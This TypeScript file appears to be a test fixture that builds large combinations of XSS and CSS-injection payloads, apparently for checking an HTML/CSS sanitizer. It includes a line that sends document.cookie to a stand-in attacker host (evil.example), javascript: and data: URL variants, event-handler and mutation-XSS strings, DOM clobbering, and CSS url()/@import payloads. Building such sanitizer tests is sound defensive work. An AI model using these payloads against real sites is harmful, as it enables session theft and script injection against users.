// Every address with every place for one, and every element with every act: what nobody would write out by hand.
const payloads = [
  'alert(1)',
  'fetch("https://evil.example/"+document.cookie)',
  '&#97;lert(1)',
  'top.location="https://evil.example"',
]
const urls = payloads.flatMap((js) =>
  [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    '&#106;avascript:',
    ' javascript:',
    'vbscript:',
    'data:text/html,<script>',
  ]
    .map((scheme) => scheme + js)
    .concat(`data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}`),
)
const tags =
  'script iframe object embed svg math form input button textarea select video audio source base link meta style template noscript title xmp plaintext frameset portal slot dialog canvas'.split(
    ' ',
  )
/** As HTML. */
export const combinedHtml: readonly string[] = [
  ...tags.flatMap((tag) =>
    payloads.map((js) => `<${tag} onload="${js}" src="https://evil.example/x" data="x" href="x">${js}</${tag}>`),
  ),
  ...tags.map((tag) => `<${tag.toUpperCase()}/onload=alert(1)//src=https://evil.example/x><${tag}`),
  ...urls.flatMap((url) => [
    `<a href="${url}">x</a>`,
    `<img src="${url}">`,
    `<a href='${url}'>x`,
    `<img src=x srcset="${url}">`,
    `<p style="background:url(${url})">x</p>`,
  ]),
  ...'onload onerror onclick onmouseover onfocus onanimationstart onpointerdown ontoggle onbeforeinput onwheel'
    .split(' ')
    .flatMap((name) => [
      `<img ${name}=alert(1) src=x>`,
      `<p/${name}="alert(1)">`,
      `<details open ${name}=alert(1)>`,
      `<b\n${name}\n=\n'alert(1)'>`,
    ]),
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a title="</a><script>alert(1)</script>">x</a>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img name="documentElement" id="cookie"><a name="body" id="location">',
  '<p id="x" name="getElementById" class="y">x</p>',
  '<img src="//evil.example/x.png"><img src="https://evil.example/x.png"><img src="/api/session">',
  '<img src="/files/../api/session"><img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<p style="position:fixed;behavior:url(x);-moz-binding:url(x)">x</p>',
  '<p style="background:u\\72l(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<a href="x" ping="https://evil.example/" target="_top" download>x</a>',
]
const cssAddresses = [
  'url(https://evil.example/x)',
  'url("//evil.example/x")',
  "url('javascript:alert(1)')",
  'u\\72l(https://evil.example/x)',
  'url(data:image/svg+xml,<svg/>)',
  'image-set("https://evil.example/x" 1x)',
  '-webkit-image-set(url(https://evil.example/x) 1x)',
  'cross-fade(url(https://evil.example/x), red)',
  'image("https://evil.example/x")',
  'src("https://evil.example/x")',
  'expression(alert(1))',
  'element(#x)',
  'url( https://evil.example/x',
  'URL(https://evil.example/x)',
  'var(--x, url(https://evil.example/x))',
]
const cssProperties = [
  'background',
  'background-image',
  'list-style-image',
  'content',
  'cursor',
  'border-image',
  'mask',
  'filter',
  '--x',
  'shape-outside',
  'clip-path',
  'offset-path',
]
/** As CSS. */
export const combinedCss: readonly string[] = [
  ...cssAddresses.flatMap((address) => cssProperties.map((property) => `p { ${property}: ${address}; color: red }`)),
  '@import "https://evil.example/x.css";',
  '@import url(https://evil.example/x);p{color:red}',
  '@font-face { font-family: x; src: url(https://evil.example/x) }',
  '@namespace x url(https://evil.example/x);',
  '@charset "utf-7";',
  '@media all { @import "x"; p { behavior: url(x) } }',
  'p { behavior: url(x); -moz-binding: url(x) }',
  'p::after { content: "</style><script>alert(1)</script>" }',
  '</style><script>alert(1)</script><style>',
  '<!-- p { color: red } -->',
  'p { color: red; } } } } p { background: url(https://evil.example/x) }',
  'p { background: url(https://evil.example/\\\n x) }',
  '@supports (background: url(https://evil.example/x)) { p { color: red } }',
  'a[href^="x"] { background: url(https://evil.example/?x) }',
]
